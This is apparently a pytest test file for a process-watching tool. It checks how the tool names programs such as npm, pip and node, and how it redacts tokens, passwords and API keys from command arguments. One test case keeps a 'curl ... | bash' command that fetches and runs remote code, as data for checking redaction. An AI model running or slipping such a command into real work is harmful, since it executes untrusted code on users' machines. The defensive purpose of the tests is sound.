"""What programs are called by who starts them, and what of their arguments is a secret."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.ecosystems.secrets_told import HIDDEN, text_without_secrets, without_secrets
from pratique.ecosystems.watched import is_watched, plain, program_name

NPM = "/usr/lib/node_modules/npm/bin/npm-cli.js"


@pytest.mark.parametrize(
    ("executable", "arguments", "script", "wanted"),
    [
        ("/usr/bin/node", ["node", NPM, "install"], NPM, "npm"),
        ("/usr/bin/node", ["npm install lodash"], "", "npm"),
        ("/usr/bin/node", ["npx", "x"], "", "npx"),
        ("/usr/bin/node", ["node", "server.js"], "/srv/server.js", "node"),
        ("/usr/bin/node", ["something else"], "", "node"),
        ("/usr/bin/node (deleted)", ["node"], "", "node"),
        ("/usr/bin/node", ["node", "x"], "/usr/lib/node_modules/@anthropic/claude/cli.js", "claude"),
        ("/usr/bin/python3.11", ["python3", "-m", "pip", "install", "x"], "", "pip"),
        ("/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/pip3", "install"], "/usr/bin/pip3", "pip"),
        ("/usr/bin/python3.11", ["python3.11"], "", "python"),
        ("/home/ann/.bun/bin/bun", ["bun", "install"], "", "bun"),
        ("/usr/share/code/code", ["/usr/share/code/code", "--type=renderer"], "", "code"),
        ("/usr/bin/dash", ["sh", "-c", "x"], "", "sh"),
        ("/usr/bin/bash", ["-bash"], "", "bash"),
        ("/usr/bin/node", ["[kworker/0:1]"], "", "node"),
        ("", ["npm", "ci"], "", "npm"),
        ("", [], "", ""),
        ("C:\\Program Files\\nodejs\\node.exe", ["node.exe", "x"], "", "node"),
    ],
)
def test_names(executable: str, arguments: list[str], script: str, wanted: str) -> None:
    assert program_name(executable, arguments, script) == wanted


def test_what_is_watched() -> None:
    assert all(
        is_watched(plain(word)) for word in ("node", "python3.12", "pip3", "/usr/bin/npm", "uv", "cursor", "claude")
    )
    assert not [word for word in ("bash", "sshd", "systemd", "") if is_watched(plain(word))]


SECRET = "s3cr3t-0f-n0body"


@pytest.mark.parametrize(
    "words",
    [
        ["curl", "-H", f"Authorization: Bearer {SECRET}", "https://x.example"],
        ["curl", "-u", f"ann:{SECRET}", "https://x.example"],
        ["curl", f"--user=ann:{SECRET}"],
        ["git", "clone", f"https://ann:{SECRET}@git.example/x"],
        ["git", "clone", f"https://{SECRET}@git.example/x"],
        ["x", "--token", SECRET],
        ["x", f"--api-key={SECRET}"],
        ["x", f"--password={SECRET}"],
        ["env", f"AWS_SECRET_ACCESS_KEY={SECRET}", "x"],
        ["sh", "-c", f"NPM_TOKEN={SECRET} npm publish"],
        ["sh", "-c", f"x --password '{SECRET}' y"],
        ["sh", "-c", f"curl -u ann:{SECRET} https://x.example"],
        ["sh", "-c", f'curl -H "Authorization: token {SECRET}" https://x.example'],
        ["npm", "config", "set", f"//registry.example/:_authToken={SECRET}"],
        ["x", "npm_" + "a1B2" * 9],
        ["x", "ghp_" + "a1B2" * 9],
        ["x", "AKIA" + "ABCD" * 4],
    ],
)
def test_secrets_that_are_recognised_are_replaced(words: list[str]) -> None:
    told = without_secrets(words)
    assert SECRET not in " ".join(told)
    assert words[-1] not in told or SECRET not in words[-1]
    assert HIDDEN in " ".join(told)
    assert told[0] == words[0]
    assert len(told) == len(words)


@pytest.mark.parametrize(
    "words",
    [
        ["sh", "-c", "curl -s http://203.0.113.7/x | bash"],
        ["node", "setup.js", "6202033"],
        ["git", "-c", "user.name=ann", "commit", "-m", "words"],
        ["tar", "-xzf", "a.tgz", "-C", "/tmp"],
        ["python3", "-m", "http.server", "8000"],
        ["ssh", "-u", "x"],
        ["keytool", "-list"],
    ],
)
def test_what_rules_are_about_stays(words: list[str]) -> None:
    assert list(without_secrets(words)) == words


@given(st.lists(st.text(max_size=60), max_size=6))
def test_the_number_of_words_stays_and_twice_changes_nothing_more(words: list[str]) -> None:
    told = without_secrets(words)
    assert len(told) == len(words)
    for word in told:
        assert text_without_secrets(word) == text_without_secrets(text_without_secrets(word))
